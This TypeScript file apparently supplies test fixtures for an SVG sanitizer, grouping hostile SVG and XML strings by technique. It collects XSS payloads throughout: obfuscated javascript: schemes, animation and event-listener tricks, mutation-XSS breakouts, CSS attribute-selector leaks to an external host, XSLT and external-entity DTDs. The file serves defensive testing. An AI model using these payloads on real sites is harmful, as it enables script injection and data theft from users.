import { base64, body, HIT, HOST, INNER, JS, numeric, PNG, XMLNS } from './hostile-parts.ts';

// Ways that are described in the HTML5 Security Cheatsheet and in the fixtures of DOMPurify, written as well-formed XML.

/** Browsers leave out white space and control characters of a scheme. */
const SPELLINGS: readonly string[] = [
  '&#106;avascript:',
  'javascript&#x3a;',
  'javascript&#x3A;//%0A',
  'jav&#x09;ascript:',
  'jav&#x0A;ascript:',
  'jav&#x0D;ascript:',
  '&#x20;&#x09;javascript:',
  'javascript&#x20;:',
  'javascript:/*&#x2a;/',
  'javascript:%2F%2A*/',
  '\u00a0javascript:',
  '\u2028javascript:',
  '\ufeffjavascript:',
  '\uff4aavascript:',
  'JAVASCRIPT:',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  'livescript:',
  'mocha:',
  'data:text/javascript,',
  'data:application/xhtml+xml,',
  'data:text/xml,',
  'data:image/svg-xml,',
  'data:,',
  'filesystem:javascript:',
  'blob:javascript:',
  'about:blank#javascript:',
  numeric('javascript:'),
];

const spellings = SPELLINGS.flatMap((spelling) => [
  `<a href="${spelling}${HIT}"><rect width="90" height="90"/></a>`,
  `<a><rect width="90" height="90"/><set attributeName="href" to="${spelling}${HIT}"/></a>`,
]);

const target = '<rect id="t" width="90" height="90" tabindex="1"/>';
const animations: readonly string[] = [
  `<a id="l"><rect width="90" height="90"/></a><animate xlink:href="#l" attributeName="xlink:href" from="${JS}" to="&amp;" begin="0s"/>`,
  `<a xlink:href="?"><circle r="90"/><animate attributeName="xlink:href" begin="0s" from="${JS}" to="&amp;"/></a>`,
  `<a><circle r="90"/><animate attributeName="href" values="a;${JS}" keyTimes="0;0" fill="freeze"/></a>`,
  `<a><circle r="90"/><animate attributeName="href" by="${JS}"/></a>`,
  `${target}<set href="#t" attributeName="onmouseover" to="${HIT}"/>`,
  `${target}<animate href="#t" attributeName="onunload" to="${HIT}"/>`,
  `<use><animate attributeName="href" to="${HOST}/a.svg#x" begin="0s" dur=".01s" fill="freeze"/></use>`,
  `<use><set attributeName="href" to="data:image/svg+xml;base64,${base64(INNER)}#x"/></use>`,
  `<filter id="f"><feImage><set attributeName="href" to="${HOST}/a.png"/></feImage></filter><g filter="url(#f)">${target}</g>`,
  `<filter id="f"><feImage><set attributeName="xlink:href" to="data:image/svg+xml;base64,${base64(INNER)}"/></feImage></filter><g filter="url(#f)">${target}</g>`,
  `<image width="9" height="9"><set attributeName="xlink:href" begin="accessKey(a)" to="${HOST}/?a"/></image>`,
  `<image width="9" height="9"><set attributeName="xlink:href" begin="0s;r.click" to="${HOST}/?b"/></image>`,
  `<rect width="9" height="9"><animate attributeName="mask" to="url(${HOST}/a.svg#m)" dur="1s"/></rect>`,
  `<rect width="9" height="9"><animate attributeName="style" to="background:url(${HOST}/a.png)"/></rect>`,
  `<rect width="9" height="9"><animate attributeName="class" to="x" onend="${HIT}"/></rect>`,
  `<style><set attributeName="media" to="all"/>rect{fill:url(${HOST}/a.svg#x)}</style>`,
  `<script><set attributeName="href" to="${HOST}/x.js"/></script>`,
  `<animation xlink:href="${JS}"/><animation xlink:href="data:text/xml,${encodeURIComponent(INNER)}"/>`,
];

const listeners: readonly string[] = [
  `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${HIT}</handler>`,
  `<x xmlns="http://www.w3.org/2001/xml-events" event="load" observer="r" handler="data:image/svg+xml,${encodeURIComponent(INNER)}#bar"/>`,
  `<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#y" observer="r"/><handler id="y">${HIT}</handler>`,
  `<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="${JS}//#x"/>`,
  `<x xlink:actuate="onLoad" xlink:href="${JS}" xlink:type="simple" xlink:show="embed"/>`,
  `<g xlink:actuate="onLoad" xlink:href="${HOST}/a.svg" xlink:type="simple" xlink:show="embed"/>`,
  `<card xmlns="http://www.wapforum.org/2001/wml"><onevent type="ontimer"><go href="${JS}"/></onevent><timer value="1"/></card>`,
  `<t:set xmlns:t="urn:schemas-microsoft-com:time" attributeName="innerHTML" targetElement="r" to="&lt;img src=x onerror=${HIT}&gt;"/>`,
  `<v:line xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#vml)" href="${JS}"/>`,
];

const references: readonly string[] = [
  `<rect width="90" height="90" style="clip-path:url(${HOST}/3.svg#a);fill:url(#b);filter:url(#c);marker:url(#d);mask:url(#e);stroke:url(#f);"/>`,
  `<path d="M0,0L9 9L20 0" style="marker-start:url(${HOST}/4.svg#a)"/>`,
  `<image width="9" height="9" href="data:image/png;base64,${PNG}" style="filter:url(&quot;data:image/svg+xml,&lt;svg xmlns=%22http://www.w3.org/2000/svg%22>&lt;script>${HIT}&lt;/script>&lt;/svg>&quot;)"/>`,
  `<g xml:base="${HOST}/"><use href="a.svg#x"/><rect width="9" height="9" fill="url(#x)"/></g>`,
  `<image xml:base="${HOST}/" href="a.png" width="9" height="9"/>`,
  `<image href="data:image/jpeg;base64,${base64(`\u00ff\u00d8\u00ff${INNER}`)}" width="9" height="9"/>`,
  `<image href="data:image/png;base64,${PNG}#&quot; onload=&quot;${HIT}" width="9" height="9"/>`,
  `<image href="data:image/svg+xml;utf8,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${HOST}/a.png"/></svg>`)}" width="9" height="9"/>`,
  `<foreignObject xlink:href="${JS}"/><foreignObject xlink:href="data:text/xml,${encodeURIComponent(INNER)}"/>`,
  `<image crossorigin="use-credentials" href="//hostile.invalid/a.png" width="9" height="9"/>`,
  `<image href="///hostile.invalid/a.png" width="9" height="9"/>`,
  `<image href="/\\hostile.invalid/a.png" width="9" height="9"/>`,
  `<image href="https:hostile.invalid/a.png" width="9" height="9"/>`,
  `<image href="wss://hostile.invalid/a.png" width="9" height="9"/>`,
  `<text><textPath path="M0 0H9" href="${HOST}/a.svg#p">x</textPath></text>`,
  `<text><textPath path="url(${HOST}/a.svg#p)">x</textPath></text>`,
  `<path d="M0 0L9 9&quot; onload=&quot;${HIT}"/>`,
  `<polygon points="1,1 9,9 url(${HOST}/a.png)"/>`,
  `<mask id="m"><image href="${HOST}/a.png" width="9" height="9"/></mask><rect width="9" height="9" mask="url(#m)"/>`,
  `<radialGradient id="g" xlink:href="${HOST}/a.svg#g"/><rect width="9" height="9" stroke="url(#g)"/>`,
  `<marker id="m"><use href="${HOST}/a.svg#x"/></marker><path d="M0 0L9 9" marker-end="url(#m)"/>`,
  `<filter id="f"><feImage href="data:image/png;base64,${base64(INNER)}"/></filter><g filter="url(#f)">${target}</g>`,
  `<filter id="f" xlink:href="${HOST}/a.svg#f"/><g filter="url(#f)">${target}</g>`,
  `<glyphRef xlink:href="${HOST}/a.svg#g"/><altGlyph xlink:href="${HOST}/a.svg#g">x</altGlyph>`,
  `<video href="${HOST}/a.mp4" xlink:href="${HOST}/a.mp4"/><audio xlink:href="${HOST}/a.mp3"/>`,
  `<prefetch xlink:href="${HOST}/a.svg"/>`,
  `<solidColor id="s" solid-color="url(${HOST}/a.svg#s)"/>`,
];

const sheets: readonly string[] = [
  `@font-face{font-family:y;src:url("${HOST}/a.svg#x") format("svg")} text{font:100px "y"}`,
  `@font-face{font-family:y;src:local(x),url(data:font/woff;base64,AAAA),url(${HOST}/a.ttf)}`,
  `@IMPORT "${HOST}/a.css" layer(x) supports(fill:red);`,
  `@import/**/"${HOST}/a.css";`,
  `@import\\20 "${HOST}/a.css";`,
  `;@import "${HOST}/a.css";`,
  `@layer x;@import "${HOST}/a.css";`,
  `@property --x{syntax:"&lt;url>";inherits:true;initial-value:url(${HOST}/a.png)}rect{mask:var(--x)}`,
  `@container (min-width:1px){rect{background-image:url(${HOST}/a.png)}}`,
  `@scope (svg){rect{fill:url(${HOST}/a.svg#x)}}`,
  `@starting-style{rect{fill:url(${HOST}/a.svg#x)}}`,
  `@view-transition{navigation:auto}rect{fill:url(${HOST}/a.svg#x)}`,
  `@counter-style x{symbols:url(${HOST}/a.png)}`,
  `@font-feature-values y{@styleset{a:1}}@color-profile{src:url(${HOST}/a.icc)}`,
  `rect{mask-image:image-set("${HOST}/a.png" type("image/png"))}`,
  `rect{fill:image(${HOST}/a.png)}rect{stroke:element(#r)}rect{mask:paint(x)}`,
  `rect{filter:url(${HOST}/a.svg#x)blur(1px)}`,
  `rect{fill:u\\rl(${HOST}/a.svg#x)}rect{fill:\\000075rl(${HOST}/a.svg#x)}`,
  `rect{fill:url( "${HOST}/a.svg#x" )}rect{fill:url(${HOST}/a.svg#x}`,
  `rect{--a:url(${HOST}/a.svg#x);--b:var(--a);fill:var(--b)}`,
  `:root{--a:u;--b:rl}rect{fill:var(--a)var(--b)(${HOST}/a.svg#x)}`,
  `svg{content:url(${HOST}/a.png)}svg::after{content:"";background:url(${HOST}/a.png)}`,
  `rect{fill:red}&lt;/style>&lt;img src=x onerror=${HIT}>`,
  `input[value^="a"]{background:url(${HOST}/?a)}rect[id^="r"]{fill:url(${HOST}/a.svg#x)}`,
  `rect{x:expression(${HIT});-moz-binding:url(${HOST}/a.xml#x)}`,
  `rect{cursor:url(${HOST}/a.cur),url(${JS}),auto}`,
].map((css) => `<style>${css}</style><text>x</text>`);

/** Text that becomes markup once a page's parser reads the result, since it ends a title or a style elsewhere than XML does. */
const mutations: readonly string[] = [
  `<title><style>&lt;/title>&lt;img src=x onerror=${HIT}></style></title>`,
  `<title><a id="&lt;/title>&lt;img src=x onerror=${HIT}>"/></title>`,
  `<desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;style>&lt;a title="&lt;/style>&lt;img src=x onerror=${HIT}>"></noscript></desc>`,
  `<style><g title="&lt;/style>&lt;img src=x onerror=${HIT}>"/></style>`,
  `<p><style><g title="&lt;/style>&lt;img src=x onerror=${HIT}>"/></style></p>`,
  `<foreignObject><p><style><p title="&lt;/style>&lt;iframe onload&#x3d;${HIT}&lt;!--"/></style></p></foreignObject>`,
  `<math><mtext><table><mglyph><style>&lt;math href=${JS}>x</style></mglyph></table></mtext></math>`,
  `<math><mtext><mglyph><svg><mtext><style><path id="&lt;/style>&lt;img onerror=${HIT} src=x>"/></style></mtext></svg></mglyph></mtext></math>`,
  `<annotation-xml encoding="text/html"><p><style><p title="&lt;/style>&lt;iframe onload=${HIT}&lt;!--"/></style></p></annotation-xml>`,
  `<xmp>&lt;/xmp>&lt;img src=x onerror=${HIT}></xmp><noembed>&lt;/noembed>&lt;img src=x onerror=${HIT}></noembed>`,
  `<textarea>&lt;/textarea>&lt;img src=x onerror=${HIT}></textarea><plaintext/>`,
  `<text id="--&gt;&lt;img src=x onerror=${HIT}&gt;">&lt;!--</text>`,
  `<text><![CDATA[><image xlink:href="]]><tspan id="x" font-family="]]&gt;&lt;img src=x onerror=${HIT}//"/></text>`,
  `<text font-family="&quot;&gt;&lt;svg onload=${HIT}&gt;">x</text><text font-family="\`onload=${HIT}\`">x</text>`,
  `<text>{{constructor.constructor('${HIT}')()}} \${${HIT}} &lt;%= ${HIT} %></text>`,
  `<g id="body"/><g id="attributes"/><g id="parentNode"/><g id="__proto__"/><g id="nodeName" onload="${HIT}"/>`,
  `<br/><svg ${XMLNS} viewBox="0 0 9 9"><script>${HIT}</script></svg>`,
  `<body onload="${HIT}"/><head/><frameset onload="${HIT}"/><center/><ul/><pre/>`,
];

const transforms: readonly string[] = [
  `<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${JS}"/></xsl:template></xsl:stylesheet>`,
  `<x:stylesheet xmlns:x="http://www.w3.org/TR/WD-xsl"><x:template match="/"><x:eval>${HIT}</x:eval></x:template></x:stylesheet>`,
].map(
  (sheet) =>
    `<?xml-stylesheet type="text/xml" href="#s"?><!DOCTYPE svg [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>${body(sheet)}`,
);

const documents: readonly string[] = [
  ...transforms,
  `<?xml-stylesheet href="${JS}"?>${body('')}`,
  `<?xml-stylesheet type="text/css" href="data:,*%7bx:expression(${encodeURIComponent(HIT)});%7d"?>${body('')}`,
  `<?xml-stylesheet type="text/css" href="${HOST}/a.css" alternate="no" title="x"?>${body('')}`,
  `<?xml-model href="${HOST}/a.rng"?><?import namespace="t" implementation="${HOST}"?>${body('')}`,
  `<!DOCTYPE svg [<!ATTLIST rect xmlns CDATA "http://www.w3.org/1999/xhtml" onerror CDATA "${HIT}" onload CDATA "${HIT}">]>${body('')}`,
  `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${HOST}/svg11.dtd" [<!ENTITY x SYSTEM "${HOST}/x">]>${body('&x;')}`,
  `<!DOCTYPE svg [<!ENTITY a "java"><!ENTITY b "script:${HIT}">]>${body('<a href="&a;&b;"><rect width="90" height="90"/></a>')}`,
  `<!DOCTYPE svg [<!NOTATION x SYSTEM "${HOST}/x"><!ENTITY y SYSTEM "${HOST}/y" NDATA x>]>${body('')}`,
];

/** Complete drawings in groups. */
export const known: Readonly<Record<string, readonly string[]>> = {
  'known spelling': spellings.map(body),
  'known animation': animations.map(body),
  'known listener': listeners.map(body),
  'known reference': references.map(body),
  'known sheet': sheets.map(body),
  'known mutation': mutations.map(body),
  'document known': documents,
};
